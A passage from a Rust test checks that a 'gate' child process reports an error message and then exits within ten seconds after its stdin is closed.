        said.contains("the gate's report could not be served"),
        "{said}"
    );
    drop(gate.stdin.take());
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while gate.try_wait().unwrap().is_none() {
        assert!(
            std::time::Instant::now() < deadline,
            "the gate outlived its stdin"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}
